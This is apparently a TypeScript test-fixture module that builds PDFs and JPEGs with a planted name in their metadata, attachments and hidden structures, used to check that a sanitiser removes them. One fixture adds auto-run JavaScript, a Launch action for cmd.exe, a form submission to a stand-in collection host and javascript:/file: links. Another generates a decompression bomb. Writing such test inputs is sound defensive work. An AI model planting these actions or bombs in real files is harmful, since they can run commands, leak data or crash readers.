import {
  AFRelationship,
  PDFArray,
  PDFDict,
  PDFDocument,
  PDFHexString,
  PDFName,
  PDFRawStream,
  PDFString,
  type PDFContext,
} from '@cantoo/pdf-lib'
import { deflateSync } from 'node:zlib'
import sharp from 'sharp'

/** Planted wherever a file can tell something; found in a result, it has told. */
export const planted = 'Jane Secret'

const plantedXmp = (title: string): string =>
  `<x:xmpmeta xmlns:x="adobe:ns:meta/"><dc:creator>${planted}</dc:creator><dc:title><rdf:Alt><rdf:li xml:lang="x-default">${title}</rdf:li></rdf:Alt></dc:title></x:xmpmeta>`

/** As a camera makes it: who and where, in EXIF, and a comment, and a second picture behind the end. */
export const photograph = async (): Promise<Buffer> => {
  const plain = await sharp({
    create: { width: 60, height: 40, channels: 3, background: { r: 200, g: 90, b: 30 } },
  })
    .jpeg()
    .withMetadata({
      exif: {
        IFD0: { Artist: planted, ImageDescription: planted },
        IFD3: { GPSLatitude: '52/1 23/1 0/1', GPSLatitudeRef: 'N' },
      },
    })
    .toBuffer()
  const comment = Buffer.from(`\xff\xfe\0\x0d${planted}`, 'latin1')
  return Buffer.concat([plain.subarray(0, 2), comment, plain.subarray(2), Buffer.from(planted)])
}

const metadataStream = (context: PDFContext, title: string) =>
  context.register(context.stream(plantedXmp(title), { Type: 'Metadata', Subtype: 'XML' }))

export type Sample = { document: PDFDocument; context: PDFContext; bytes: () => Promise<Buffer> }

/** One page with a heading, tagged, in English, with a title; nothing in it that tells anything. */
export const plainPdf = async (): Promise<Sample> => {
  const document = await PDFDocument.create({ updateMetadata: false })
  const { context, catalog } = document
  const page = document.addPage([200, 200])
  page.drawText('Beans on toast', { x: 20, y: 100, size: 12 })
  document.setTitle('Menu for autumn')
  document.setLanguage('en-GB')
  const tree = context.register(context.obj({ Type: 'StructTreeRoot' }))
  const heading = context.register(
    context.obj({ Type: 'StructElem', S: 'H1', P: tree, Pg: page.ref, Alt: PDFString.of('A heading') }),
  )
  context.lookup(tree, PDFDict).set(PDFName.of('K'), context.obj([heading]))
  catalog.set(PDFName.of('StructTreeRoot'), tree)
  catalog.set(PDFName.of('MarkInfo'), context.obj({ Marked: true }))
  catalog.set(PDFName.of('ViewerPreferences'), context.obj({ DisplayDocTitle: true }))
  return {
    document,
    context,
    bytes: async () => Buffer.from(await document.save({ useObjectStreams: false })),
  }
}

/** The same, telling wherever a PDF can tell. */
export const tellingPdf = async (): Promise<Sample> => {
  const sample = await plainPdf()
  const { document, context } = sample
  const [page] = document.getPages()
  if (!page) throw new Error('The sample has no page.')
  document.setAuthor(planted)
  document.setCreator(planted)
  document.setProducer(planted)
  document.setKeywords([planted])
  document.catalog.set(PDFName.of('Metadata'), metadataStream(context, planted))
  document.catalog.set(PDFName.of('PieceInfo'), context.obj({ Word: { Private: PDFString.of(planted) } }))
  page.node.set(PDFName.of('Metadata'), metadataStream(context, planted))
  page.node.set(PDFName.of('LastModified'), PDFString.of(planted))
  const thumbnail = context.stream(planted, { Width: 1, Height: 1 })
  page.node.set(PDFName.of('Thumb'), context.register(thumbnail))
  const jpeg = await photograph()
  const picture = { Type: 'XObject', Subtype: 'Image', Width: 60, Height: 40, ColorSpace: 'DeviceRGB' }
  const one = PDFRawStream.of(
    context.obj({
      ...picture,
      BitsPerComponent: 8,
      Filter: 'DCTDecode',
      Metadata: metadataStream(context, 'x'),
    }),
    jpeg,
  )
  const wrapped = PDFRawStream.of(
    context.obj({
      ...picture,
      BitsPerComponent: 8,
      Filter: ['FlateDecode', 'DCTDecode'],
      DecodeParms: [null, { ColorTransform: 1 }],
    }),
    deflateSync(jpeg),
  )
  page.node.setXObject(PDFName.of('One'), context.register(one))
  page.node.setXObject(PDFName.of('Two'), context.register(wrapped))
  page.node.set(
    PDFName.of('Annots'),
    context.obj([
      {
        Type: 'Annot',
        Subtype: 'Text',
        Rect: [0, 0, 9, 9],
        T: PDFString.of(planted),
        M: PDFString.of(planted),
        Contents: PDFString.of('Please check'),
      },
    ]),
  )
  return sample
}

/** An earlier state of the document, kept at the beginning of the file, as programs do that only append. */
export const appendedPdf = async (): Promise<Buffer> => {
  const { document, context, bytes } = await plainPdf()
  const secret = context.register(context.obj({ Secret: PDFString.of(planted) }))
  document.catalog.set(PDFName.of('Old'), secret)
  const before = await bytes()
  const again = await PDFDocument.load(before, { updateMetadata: false, forIncrementalUpdate: true })
  again.catalog.delete(PDFName.of('Old'))
  const update = await again.saveIncremental(again.takeSnapshot())
  return Buffer.concat([before, update])
}

/** A page that was taken out, of which the document's structure still speaks. */
export const pdfWithRemovedPage = async (): Promise<Buffer> => {
  const { document, context, bytes } = await plainPdf()
  const removed = document.addPage([200, 200])
  removed.node.set(PDFName.of('Contents'), context.register(context.stream(planted)))
  const tree = document.catalog.lookup(PDFName.of('StructTreeRoot'), PDFDict)
  tree.lookup(PDFName.of('K'), PDFArray).push(context.obj({ Type: 'StructElem', S: 'P', Pg: removed.ref }))
  document.removePage(1)
  // Removing it from the tree of pages leaves the page itself where it was.
  context.assign(removed.ref, removed.node)
  return bytes()
}

/** With scripts and actions in every place that a PDF has for them. */
export const actingPdf = async (): Promise<Buffer> => {
  const { document, context, bytes } = await plainPdf()
  const [page] = document.getPages()
  const script = () => context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert(1)') })
  document.addJavaScript('start', 'app.alert(2)')
  document.catalog.set(PDFName.of('OpenAction'), script())
  document.catalog.set(PDFName.of('AA'), context.obj({ WC: script() }))
  page?.node.set(PDFName.of('AA'), context.obj({ O: script() }))
  const link = (action: PDFDict) =>
    context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 9, 9], A: action })
  page?.node.set(
    PDFName.of('Annots'),
    context.obj([
      link(context.obj({ S: 'Launch', F: PDFString.of('cmd.exe') })),
      link(context.obj({ S: 'SubmitForm', F: PDFString.of('https://collect.example/') })),
      link(context.obj({ S: 'URI', URI: PDFString.of('javascript:alert(3)') })),
      link(context.obj({ S: 'URI', URI: PDFString.of('file:///C:/Users/jane/x') })),
      link(context.obj({ S: 'URI', URI: PDFString.of('https://school.example/menu'), Next: script() })),
    ]),
  )
  return bytes()
}

export const pdfWithAttachment = async (): Promise<Buffer> => {
  const { document, bytes } = await plainPdf()
  await document.attach(Buffer.from(planted), 'pupils.csv', { afRelationship: AFRelationship.Data })
  return bytes()
}

export const signedPdf = async (): Promise<Buffer> => {
  const { document, context, bytes } = await plainPdf()
  const signature = context.register(
    context.obj({
      Type: 'Sig',
      ByteRange: [0, 1, 2, 3],
      Contents: PDFHexString.of('00'),
      Name: PDFString.of(planted),
    }),
  )
  const field = context.register(context.obj({ FT: 'Sig', T: PDFString.of('Signature'), V: signature }))
  document.catalog.set(PDFName.of('AcroForm'), context.obj({ Fields: [field], SigFlags: 3 }))
  return bytes()
}

export const dynamicForm = async (): Promise<Buffer> => {
  const { document, context, bytes } = await plainPdf()
  const form = { Fields: [], XFA: context.register(context.stream('<xdp/>')) }
  document.catalog.set(PDFName.of('AcroForm'), context.obj(form))
  return bytes()
}

export const encryptedPdf = async (): Promise<Buffer> => {
  const { document, bytes } = await plainPdf()
  document.encrypt({ ownerPassword: 'owner', userPassword: '' })
  return bytes()
}

/** An object stream that is a thousand times as large once decoded. */
export const deflatedBomb = (megabytes: number, layers = 1): Buffer => {
  let bomb: Buffer = Buffer.alloc(megabytes * 1024 * 1024, 32)
  for (let layer = 0; layer < layers; layer += 1) bomb = deflateSync(bomb, { level: 9 })
  const filters = Array.from({ length: layers }, () => '/FlateDecode').join('')
  return Buffer.concat([
    Buffer.from('%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n'),
    Buffer.from('2 0 obj\n<</Type/Pages/Kids[3 0 R]/Count 1>>\nendobj\n'),
    Buffer.from('3 0 obj\n<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>\nendobj\n'),
    Buffer.from(`4 0 obj\n<</Type/ObjStm/N 1/First 4/Filter[${filters}]/Length ${bomb.length}>>\nstream\n`),
    bomb,
    Buffer.from('\nendstream\nendobj\ntrailer<</Root 1 0 R>>\n'),
  ])
}

/** Everything that a PDF says, decompressed as far as it can be, for looking for what was planted. */
export const insideOf = async (bytes: Uint8Array): Promise<string> => {
  const document = await PDFDocument.load(bytes, { updateMetadata: false })
  const all = await PDFDocument.load(await document.save({ useObjectStreams: false }), {
    updateMetadata: false,
  })
  const parts = all.context.enumerateIndirectObjects().map(([, object]) => {
    const said = object.toString()
    if (!(object instanceof PDFRawStream)) return decodedStrings(said)
    return said + Buffer.from(object.contents).toString('latin1')
  })
  return [Buffer.from(bytes).toString('latin1'), ...parts].join('\n')
}

/** Texts may be written in hexadecimal, with or without a byte order mark. */
const decodedStrings = (said: string): string =>
  said +
  said.replace(/<([0-9A-Fa-f]+)>/g, (_all, hex: string) =>
    Buffer.from(hex, 'hex').toString('latin1').replaceAll('\0', ''),
  )
